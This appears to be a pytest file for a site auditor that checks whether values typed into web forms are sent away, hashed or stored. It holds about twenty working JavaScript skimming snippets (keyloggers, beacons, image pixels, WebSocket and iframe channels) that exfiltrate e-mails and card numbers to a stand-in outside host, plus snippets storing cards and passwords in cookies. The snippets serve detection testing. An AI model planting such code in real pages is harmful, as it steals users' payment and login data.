"""Values typed and not sent: each kind of leak is caught, with its field and its recipient, and no innocent form is."""

from __future__ import annotations

import base64
import hashlib

import pytest

from auditor.measure import measure
from auditor.model.facts.security.typed import TypedValueFacts
from auditor.model.snapshot import Snapshot
from tests.browser.conftest import Visitor
from tests.site import Answer, Asked, Site, page

PLAN = frozenset({"typed_values"})
EMAIL = (
    '<form method="post" action="/order"><label>E-mail <input id="m" type="email" name="email"></label>'
    "<button>Order</button></form>"
)
CARD = (
    '<form method="post" action="/order"><label>Card number <input id="m" name="card" autocomplete="cc-number"></label>'
    "<button>Pay</button></form>"
)
PASSWORD = (
    '<form method="post" action="/in"><label>Password <input id="m" type="password" name="p"></label>'
    "<button>Sign in</button></form>"
)

STREET = (
    '<form method="post"><label>Street <input id="m" name="street" autocomplete="street-address"></label>'
    "<button>Order</button></form>"
)

HELP = """const post = (path, body) => fetch(AT + path, { method: 'POST', mode: 'no-cors', body });
const digest = async (name, text) => {
  const bytes = new Uint8Array(await crypto.subtle.digest(name, new TextEncoder().encode(text)));
  return [...bytes].map((each) => each.toString(16).padStart(2, '0')).join('');
};
const packed = async (text, how = 'gzip') => {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream(how));
  return new Response(stream).arrayBuffer();
};
const socket = () => new WebSocket(AT.replace('http', 'ws') + '/ws');
const worker = () => new Worker(URL.createObjectURL(new Blob([`onmessage = (e) => fetch('${AT}/w?v=' + e.data)`])));
"""

LEAKS = {
    "each change, by a picture": (
        *(EMAIL, "m.oninput = () => new Image().src = AT + '/p?e=' + encodeURIComponent(m.value);"),
        "plain",
    ),
    "on leaving, as a beacon of a blob": (
        *(EMAIL, "m.onblur = () => navigator.sendBeacon(AT + '/b', new Blob([JSON.stringify({ v: m.value })]));"),
        "plain",
    ),
    "base64": (
        *(EMAIL, "m.onchange = () => fetch(AT + '/c?d=' + encodeURIComponent(btoa(JSON.stringify({ v: m.value }))));"),
        "base64",
    ),
    "sha-256 of the lower case": (
        *(EMAIL, "m.onblur = async () => post('/h', await digest('SHA-256', m.value.trim().toLowerCase()));"),
        "sha256",
    ),
    "sha-1": (EMAIL, "m.onblur = async () => post('/h', await digest('SHA-1', m.value));", "sha1"),
    "key by key": (
        *(EMAIL, "m.onkeydown = (e) => new Image().src = AT + '/k?k=' + e.key + '&t=' + Date.now();"),
        "keystrokes",
    ),
    "keys in one batch": (
        EMAIL,
        "const keys = []; addEventListener('keydown', (e) => keys.push([e.keyCode, Date.now()]));"
        "setInterval(() => keys.length && post('/r', JSON.stringify(keys.splice(0))), 3000);",
        "keystrokes",
    ),
    "a recorder on a socket": (
        *(EMAIL, "const s = socket(); m.oninput = () => s.send(JSON.stringify({ text: m.value }));"),
        "plain",
    ),
    "looked at from time to time": (
        EMAIL,
        "setInterval(() => m.value && fetch(AT + '/i?v=' + m.value), 4000);",
        "plain",
    ),
    "when the page is left": (
        EMAIL,
        "const gone = () => document.visibilityState === 'hidden' && navigator.sendBeacon(AT + '/l', m.value);"
        "addEventListener('visibilitychange', gone);",
        "plain",
    ),
    "by a frame of another site": (
        '<iframe src="AT/frame" title="Chat" width="300" height="60"></iframe>' + EMAIL,
        "m.onblur = () => frames[0].postMessage(m.value, '*');",
        "plain",
    ),
    "by a worker": (EMAIL, "const w = worker(); m.onblur = () => w.postMessage(m.value);", "plain"),
    "a card's number, in groups": (
        CARD,
        "m.oninput = () => { m.value = m.value.replace(/\\D/g, '').replace(/(....)(?=.)/g, '$1 '); };"
        "m.onblur = () => fetch(AT + '/n?n=' + encodeURIComponent(m.value));",
        "encoded",
    ),
    "packed": (EMAIL, "m.onblur = async () => post('/z', await packed(m.value + 'x'.repeat(500)));", "plain"),
    "deflated, without a head": (
        EMAIL,
        "m.onblur = async () => post('/z', await packed(m.value + 'x'.repeat(500), 'deflate-raw'));",
        "plain",
    ),
    "the names of keys": (
        EMAIL,
        "const keys = []; addEventListener('keydown', (e) => keys.push({ code: e.code, t: e.timeStamp }));"
        "m.onblur = () => post('/r', JSON.stringify(keys));",
        "keystrokes",
    ),
    "behind the # of a new frame's address": (
        EMAIL,
        "m.onblur = () => { const frame = document.createElement('iframe'); frame.src = AT + '/frame#e=' + m.value;"
        " document.body.append(frame); };",
        "plain",
    ),
    "behind the # of a frame that is there": (
        '<iframe id="f" src="AT/frame" title="Chat" width="300" height="60"></iframe>' + EMAIL,
        "m.onblur = () => { f.src = AT + '/frame#e=' + encodeURIComponent(m.value); };",
        "plain",
    ),
    "in the Referer": (
        EMAIL,
        "m.onchange = () => { history.replaceState({}, '', '?e=' + m.value);"
        " fetch(AT + '/a', { referrerPolicy: 'unsafe-url', mode: 'no-cors' }); };",
        "plain",
    ),
}

KEPT = {
    "a card in the session": (CARD, "m.oninput = () => sessionStorage.setItem('c', m.value);", "sessionStorage c"),
    "a password in a cookie": (PASSWORD, "m.onchange = () => { document.cookie = 'p=' + m.value; };", "cookie"),
    "a hash in the local storage": (
        EMAIL,
        "m.onblur = async () => localStorage.setItem('id', await digest('SHA-256', m.value.toLowerCase()));",
        "localStorage id",
    ),
    "a card in a database": (
        CARD,
        "const open = indexedDB.open('shop'); open.onupgradeneeded = () => open.result.createObjectStore('form');"
        "m.onchange = () => open.result.transaction('form', 'readwrite').objectStore('form').put(m.value, 'card');",
        "indexedDB shop",
    ),
}

INNOCENT = {
    "checks in the page": (EMAIL, "m.oninput = () => { m.className = m.validity.valid ? 'good' : 'bad'; };"),
    "completion by the shop's own server": (
        *(STREET, "m.oninput = () => fetch('/complete?q=' + encodeURIComponent(m.value));"),
    ),
    "a password meter": (
        *(PASSWORD, "m.oninput = () => { document.title = 'Strength ' + Math.min(4, m.value.length >> 2); };"),
    ),
    "measuring that something was typed": (
        *(EMAIL, "m.oninput = () => post('/ev', JSON.stringify({ field: 'm', n: m.value.length, t: Date.now() }));"),
    ),
    "a recorder that hides what is typed": (
        EMAIL,
        "const keys = []; addEventListener('keydown', (e) => keys.push({ k: '*', t: e.timeStamp }));"
        "const ids = Array.from({ length: 3000 }, (_, i) => [i % 7, i % 120]);"
        "m.onblur = () => post('/r', JSON.stringify([keys, ids]));",
    ),
    "a password asked after by the start of its hash": (
        PASSWORD,
        "m.onblur = async () => fetch(AT + '/range/' + (await digest('SHA-1', m.value)).slice(0, 5)).catch(() => {});",
    ),
    "a draft that the shop keeps": (EMAIL, "m.oninput = () => localStorage.setItem('draft', m.value);"),
    "what the page's own policy keeps back": (
        EMAIL,
        "const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy';"
        "meta.content = `connect-src 'self'; img-src 'self'`; document.head.append(meta);"
        "m.onblur = () => { post('/x', m.value).catch(() => {}); new Image().src = AT + '/y?v=' + m.value; };",
    ),
    "a card that is checked in the page": (
        *(CARD, "m.oninput = () => { m.dataset.brand = m.value.startsWith('4') ? 'visa' : ''; };"),
    ),
}


def frame(_asked: Asked) -> Answer:
    return page("<script>onmessage = (e) => fetch('/f?v=' + encodeURIComponent(e.data))</script><p>Chat</p>")


def socket(asked: Asked) -> Answer:
    """A WebSocket that is open and says nothing."""
    key = asked.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
    accept = base64.b64encode(hashlib.sha1(key.encode(), usedforsecurity=False).digest()).decode()
    return Answer(status=101, headers={"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Accept": accept})


def typed(visit: Visitor, html: str, script: str) -> tuple[TypedValueFacts, Snapshot, list[str]]:
    with Site({"/frame": frame, "/ws": socket}, host="localhost") as other:
        whole = f"{html}<script>const AT = '{other.origin}';{HELP}{script}</script>".replace(
            "AT/frame", f"{other.origin}/frame"
        )
        with Site({"/": page(whole)}) as shop:
            snapshot = visit(f"{shop.origin}/", plan=PLAN, images=False)
            asked = [each.path for each in (*shop.asked, *other.asked)]
    assert snapshot.failures == []
    (facts,) = measure(snapshot).subjects["typed_values"]
    assert isinstance(facts, TypedValueFacts)
    return facts, snapshot, [path for path in asked if path not in {"/", "/frame", "/favicon.ico", "/ws"}]


@pytest.mark.parametrize("name", LEAKS)
def test_each_leak_is_caught_and_none_leaves(visit: Visitor, name: str) -> None:
    html, script, how = LEAKS[name]
    facts, snapshot, asked = typed(visit, html, script)
    assert facts.sent_to == ["localhost"], snapshot.canaries
    assert facts.how == [how]
    assert 'id="m"' in facts.at.html
    assert asked == []


@pytest.mark.parametrize("name", KEPT)
def test_what_is_kept_is_found(visit: Visitor, name: str) -> None:
    html, script, place = KEPT[name]
    facts, snapshot, _ = typed(visit, html, script)
    assert facts.kept_in == [place], snapshot.canaries
    assert facts.sent_to == []


@pytest.mark.parametrize("name", INNOCENT)
def test_no_innocent_form_is_accused(visit: Visitor, name: str) -> None:
    facts, snapshot, asked = typed(visit, *INNOCENT[name])
    assert (facts.sent_to, facts.read_by, facts.kept_in) == ([], [], []), snapshot.canaries
    assert asked == []


def test_a_page_without_fields_costs_nothing(visit: Visitor) -> None:
    with Site({"/": page("<p>Vases</p>")}) as site:
        snapshot = visit(f"{site.origin}/", plan=PLAN, images=False)
    assert snapshot.canaries == []
    assert measure(snapshot).subjects["typed_values"] == []


def test_a_field_that_throws_out_what_is_typed_is_left_open(visit: Visitor) -> None:
    facts, _, _ = typed(visit, EMAIL, "m.oninput = () => { m.value = ''; };")
    assert facts.read_by is None


def test_a_page_that_is_never_at_rest_has_not_passed(visit: Visitor) -> None:
    endless = "m.onblur = () => { const on = () => Promise.resolve().then(on); on(); };"
    with Site({"/": page(f"{EMAIL}<script>{endless}</script>")}) as shop:
        snapshot = visit(f"{shop.origin}/", plan=PLAN, images=False)
    assert [(failure.step, failure.code) for failure in snapshot.failures] == [("canaries", "step-timeout")]
    assert "typed_values" not in measure(snapshot).subjects


def test_a_page_that_shows_something_else_has_not_passed(visit: Visitor) -> None:
    facts, _, _ = typed(visit, EMAIL, "m.oninput = () => { document.body.innerHTML = '<p>Thanks</p>'; };")
    assert (facts.sent_to, facts.read_by, facts.kept_in) == (None, None, None)


def test_what_is_typed_into_a_frame_of_another_site_is_that_sites(visit: Visitor) -> None:
    body = '<form><label>Card number <input autocomplete="cc-number"></label></form>'
    frame = '<iframe src="{}/" width="300" height="80" title="Card"></iframe>'
    with Site({"/": page(body)}, host="localhost") as other, Site({}) as shop:
        shop.routes["/"] = page(frame.format(other.origin))
        snapshot = visit(f"{shop.origin}/", plan=PLAN, images=False)
    assert snapshot.canaries == []
